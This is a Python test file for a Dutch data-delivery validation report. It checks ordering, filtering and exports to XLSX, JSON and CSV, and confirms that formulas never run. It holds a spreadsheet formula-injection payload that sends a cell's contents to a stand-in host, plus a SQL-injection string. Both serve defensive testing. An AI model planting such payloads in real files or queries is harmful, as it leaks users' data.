"""The toetsverslag: every finding in words that last, as page, XLSX and JSON, and never a cell that runs."""

import csv
import io
import json
from datetime import date
from pathlib import Path
from typing import Any

import pytest
import python_calamine

from vth.aanleveringen import tasks, uitvoer, verslag
from vth.aanleveringen.models import Aanlevering
from vth.aanleveringen.selectors import Bevindingregel, iter_verslag, list_verslag, list_voorbeelden
from vth.aanleveringen.uitvoer import (
    KOPPEN,
    claim_uitvoer,
    count_regels,
    find_uitvoer,
    is_direct,
    make_uitvoer,
    name_uitvoer,
)
from vth.aanleveringen.verslag import KOLOMMEN, get_map

from .builders import lever, make_csv, make_site

pytestmark = pytest.mark.usefixtures("verse_database")
GEVAAR = '=HYPERLINK("http://kwaad.example?x="&A1)'


def deliver_mixed(dag: date = date(2024, 1, 1)) -> Aanlevering:
    """Thirty sites: three without a name, one with an impossible day, one whose name is a formula."""
    rijen = [make_site(f"A{n:02d}") for n in range(30)]
    for n in (3, 4, 5):
        rijen[n]["NAAM"] = ""
    rijen[7]["SINDS"] = "31-02-2024"
    rijen[9]["NAAM"] = '"' + GEVAAR.replace('"', '""') + '"'
    aanlevering = lever(make_csv(rijen), peildatum=dag)
    assert aanlevering.staat == "verwerkt", aanlevering.uitleg
    return aanlevering


def read_xlsx(bestand: Path) -> list[list[Any]]:
    return python_calamine.CalamineWorkbook.from_path(str(bestand)).get_sheet_by_index(0).to_python()


def test_report_holds_every_finding_in_the_order_of_the_file() -> None:
    regels = list_verslag(deliver_mixed())
    assert [(r.rijnummer, r.toets, r.ernst) for r in regels] == [
        (5, "veld.vulling", "waarschuwing"),
        (6, "veld.vulling", "waarschuwing"),
        (7, "veld.vulling", "waarschuwing"),
        (9, "veld.omzetten", "blokkerend"),
        (11, "veld.opmaak", "waarschuwing"),
    ]
    assert [r.volgnummer for r in regels] == [1, 2, 3, 4, 5]
    assert [r.sleutel for r in regels] == ["A03", "A04", "A05", "A07", "A09"]


def test_report_is_read_in_pieces_and_within_filters() -> None:
    a = deliver_mixed()
    assert [r.volgnummer for r in list_verslag(a, na=2, hoogstens=2)] == [3, 4]
    assert [r.volgnummer for r in list_verslag(a, voor=4, hoogstens=2)] == [2, 3]
    assert [r.volgnummer for r in list_verslag(a, toets="veld.vulling")] == [1, 2, 3]
    assert [r.volgnummer for r in list_verslag(a, ernst="blokkerend", veld="ontstaansdatum")] == [4]
    assert not list_verslag(a, toets="' OR 1=1 --")
    assert list(iter_verslag(a, per=2)) == list_verslag(a)


def test_each_kind_of_finding_has_its_first_line_as_example() -> None:
    voorbeelden = list_voorbeelden(deliver_mixed())
    assert {sleutel[1]: r.rijnummer for sleutel, r in voorbeelden.items()} == {
        "veld.vulling": 5,
        "veld.omzetten": 9,
        "veld.opmaak": 11,
    }


def test_report_says_what_it_said_when_the_words_of_a_check_change(monkeypatch: pytest.MonkeyPatch) -> None:
    aanlevering = deliver_mixed()
    voor = list_verslag(aanlevering)
    monkeypatch.setattr(verslag, "_get_kop", lambda toets: {"melding": "Anders."})
    assert list_verslag(aanlevering) == voor


def test_delivery_that_could_not_be_read_has_no_report() -> None:
    aanlevering = lever(b"")
    assert list_verslag(aanlevering) == [] and list_voorbeelden(aanlevering) == {}
    assert not uitvoer.has_bron(aanlevering, "toetsverslag")


def test_report_as_excel_has_every_line_and_no_formula() -> None:
    a = deliver_mixed()
    kop, *rijen = read_xlsx(make_uitvoer(a, "toetsverslag", "xlsx"))
    assert kop == list(KOPPEN.values())
    assert [int(r[1]) for r in rijen] == [5, 6, 7, 9, 11]
    [gevaar] = [r for r in rijen if r[-2] == "veld.opmaak"]
    assert gevaar[kop.index("Waarde")] == GEVAAR[:80]
    assert "<f>" not in read_blad(make_uitvoer(a, "toetsverslag", "xlsx"))


def read_blad(bestand: Path) -> str:
    """The sheet as it stands in the file."""
    import zipfile  # noqa: PLC0415

    with zipfile.ZipFile(bestand) as zip_:
        return zip_.read("xl/worksheets/sheet1.xml").decode()


def test_report_as_json_is_the_report() -> None:
    a = deliver_mixed()
    inhoud = json.loads(make_uitvoer(a, "toetsverslag", "json").read_text())
    assert [Bevindingregel(**{k: rij.get(k) for k in KOLOMMEN}) for rij in inhoud] == list_verslag(a)
    assert inhoud[4]["waarde"] == GEVAAR[:80]


def test_report_as_csv_has_a_formula_as_text() -> None:
    tekst = make_uitvoer(deliver_mixed(), "toetsverslag", "csv").read_bytes().decode("utf-8-sig")
    kop, *rijen = list(csv.reader(io.StringIO(tekst), delimiter=";"))
    assert rijen[4][kop.index("Waarde")] == "'" + GEVAAR[:80]


def test_refused_rows_go_back_as_they_came() -> None:
    a = deliver_mixed()
    kop, rij = read_xlsx(make_uitvoer(a, "geweigerd", "xlsx"))
    gegeven = dict(zip(kop, rij, strict=True))
    assert (gegeven["NR"], gegeven["SINDS"], gegeven["CAP"]) == ("A07", "31-02-2024", "12,5")
    assert gegeven["rijnummer"] == 9


def test_download_is_made_once_and_again_when_the_report_is() -> None:
    a = deliver_mixed()
    eerste = make_uitvoer(a, "toetsverslag", "json")
    gemaakt = eerste.stat().st_mtime_ns
    assert make_uitvoer(a, "toetsverslag", "json").stat().st_mtime_ns == gemaakt
    (get_map(a) / "verslag.parquet").touch()
    assert find_uitvoer(a, "toetsverslag", "json") is None


def test_large_report_is_made_in_the_queue_and_once(monkeypatch: pytest.MonkeyPatch) -> None:
    a = deliver_mixed()
    assert (count_regels(a, "toetsverslag"), count_regels(a, "geweigerd")) == (5, 1)
    assert is_direct(a, "toetsverslag", "xlsx")
    monkeypatch.setattr(uitvoer, "DIRECT", 4)
    assert not is_direct(a, "toetsverslag", "xlsx") and is_direct(a, "toetsverslag", "csv")
    assert claim_uitvoer(a, "toetsverslag", "xlsx")
    assert not claim_uitvoer(a, "toetsverslag", "xlsx")
    tasks.run_uitvoer.func(str(a.pk), "toetsverslag", "xlsx")
    assert find_uitvoer(a, "toetsverslag", "xlsx")


def test_name_of_a_download_says_what_it_is() -> None:
    naam = name_uitvoer(deliver_mixed(), "toetsverslag")
    assert naam == "toetsverslag-OD-PROEF-proef.sites-2024-01-01"


def test_report_about_people_has_no_number_of_theirs_as_key() -> None:
    a = lever("BSN;LETTERS;NAAM\n123456789;J.;Veen\n123456782;K.;Berg\n", profiel="proef.personen")
    [regel] = list_verslag(a)
    assert regel.toets == "veld.elfproef"
    assert "123456789" not in f"{regel.sleutel} {regel.tekst} {regel.waarde}"


def test_placeholder_in_a_value_is_only_text() -> None:
    rijen = [make_site(f"A{n}") for n in range(20)]
    rijen[3]["BRZO"] = "{grens} en {titel}"
    [regel] = list_verslag(lever(rijen))
    assert "staat ‘{grens} en {titel}’." in regel.tekst
